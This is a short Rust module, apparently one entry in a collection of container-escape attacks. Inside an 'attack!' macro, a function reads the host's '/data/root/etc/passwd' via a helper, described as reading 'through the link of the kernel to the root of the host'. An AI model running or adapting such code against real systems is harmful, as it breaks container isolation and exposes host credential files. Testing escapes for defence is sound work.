//! Reads through the link of the kernel to the root of the host.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(_to: String) -> Result<String> {
        read3("/data/root/etc/passwd").await
    }
}
